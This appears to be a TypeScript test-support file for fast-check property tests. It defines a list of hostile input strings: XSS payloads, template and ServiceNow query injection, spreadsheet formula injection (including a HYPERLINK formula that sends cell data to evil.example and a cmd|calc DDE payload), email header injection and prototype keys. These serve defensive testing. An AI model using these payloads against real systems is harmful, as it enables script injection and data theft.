// Properties over hostile texts. Their seed is that of the run: test/support/fast-check.cjs.
import fc from 'fast-check'

export function holds<T>(property: fc.IRawProperty<T>, numRuns: number): void {
    fc.assert(property, { numRuns })
}

/** What people and other systems write into names, addresses and texts to see what happens. */
export const hostileTexts: Readonly<Record<string, string>> = {
    script: '"><script>window.hostile=1;alert(1)</script>',
    image: '<img src=x onerror="window.hostile=2;alert(2)">',
    svg: '"><svg onload=window.hostile=3;alert(3)>',
    single: "' onmouseover='window.hostile=4' x='",
    template: '${gs.getProperty("x")}${7*7}{{7*7}}{0}{1}',
    formula: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    plus: "+1+cmd|' /C calc'!A0",
    minus: '-2+3',
    at: '@SUM(1+1)',
    tab: '\t=1+1',
    return: '\r=1+1',
    wide: '＝1+1',
    quotes: `o'brien"quote`,
    alternative: 'a^ORactive=true^ORsys_idISNOTEMPTY',
    addition: 'a^NQactive=true',
    ending: 'a^EQ',
    sorting: 'a^ORDERBYDESCsys_created_on',
    evaluated: 'javascript:gs.getUserID()',
    evaluatedLater: ' JavaScript:gs.log(1)',
    list: 'a,b,c',
    dynamic: 'DYNAMIC90d1921e5f510100a9ad2572f2b477fe',
    percent: '%',
    fourBytes: '𝒜𝓁𝒾𝒸ℯ😀',
    loneSurrogate: 'a\ud800b',
    rightToLeft: '\u202Emoc.elpmaxe\u202C',
    controls: 'a\u0000b\u0007c\u001bd\u0085e\u009ff\u061cg\u2028h\u2029i\u2066j',
    lines: 'Subject: x\r\nBcc: victim@evil.example\r\n\r\nbody',
    prototype: '__proto__',
    constructor: 'constructor',
    long: 'x'.repeat(10_000),
}

/** Any text: the list above, everything fast-check thinks of, and mixtures. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
    fc.constantFrom(...Object.values(hostileTexts)),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.string({ maxLength: 60 }),
    fc
        .array(fc.constantFrom('^', '^OR', '^NQ', '^^', 'IN', '=', ',', '@', 'javascript:', 'a', "'", '%', '*', '\n'), {
            maxLength: 12,
        })
        .map((parts) => parts.join(''))
)
